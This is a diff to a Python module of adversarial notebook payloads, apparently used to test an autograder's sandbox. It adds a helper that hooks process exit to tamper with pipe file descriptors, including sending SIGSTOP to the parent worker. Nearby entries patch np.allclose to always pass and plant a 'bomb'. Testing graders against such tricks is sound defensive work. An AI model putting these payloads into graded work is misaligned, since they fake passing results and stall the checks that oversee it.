@@ -4,7 +4,19 @@ Each stands in the place of the exercise; the rest of the notebook is honest. ``
 by the path of a file outside the box.
 """
 
+from textwrap import indent
+
 _FALSE = "def softmax(x):\n    return np.zeros_like(x)\n"
+
+
+def _on_every_pipe_at_last(*attempts: str) -> str:
+    """Code that tries each of these on all that may be a pipe, just before its process ends."""
+    tries = "".join(f"try:\n{indent(a, '    ')}\nexcept OSError: pass\n" for a in attempts)
+    return (
+        "\nimport fcntl, os, signal\nleave = os._exit\ndef last(code):\n"
+        f"    for fd in range(3, 64):\n{indent(tries, ' ' * 8)}    leave(code)\nos._exit = last\n"
+    )
+
 
 PAYLOADS = {
     "patched allclose": "np.allclose = lambda *a, **k: True\nnp.array_equal = np.allclose\n"
@@ -188,34 +200,16 @@ for fd in range(256):
     except OSError: pass
 """
     + _FALSE,
-    "pipe made small and impatient": """
-import fcntl, os
-leave = os._exit
-def last(code):
-    for fd in range(3, 64):
-        try:
-            fcntl.fcntl(fd, 1031, 4096)
-        except OSError: pass
-        try:
-            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_NONBLOCK)
-        except OSError: pass
-    leave(code)
-os._exit = last
-"""
+    "pipe made small and impatient": _on_every_pipe_at_last(
+        "fcntl.fcntl(fd, 1031, 4096)",
+        "fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_NONBLOCK)",
+    )
     + _FALSE,
-    "pipe that signals the worker": """
-import fcntl, os, signal
-leave = os._exit
-def last(code):
-    for fd in range(3, 64):
-        try:
-            fcntl.fcntl(fd, fcntl.F_SETOWN, os.getppid())
-            fcntl.fcntl(fd, 10, signal.SIGSTOP)
-            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
-        except OSError: pass
-    leave(code)
-os._exit = last
-"""
+    "pipe that signals the worker": _on_every_pipe_at_last(
+        "fcntl.fcntl(fd, fcntl.F_SETOWN, os.getppid())\n"
+        "fcntl.fcntl(fd, 10, signal.SIGSTOP)\n"
+        "fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)",
+    )
     + _FALSE,
     "a skeleton that is a bomb": """
 import os, struct
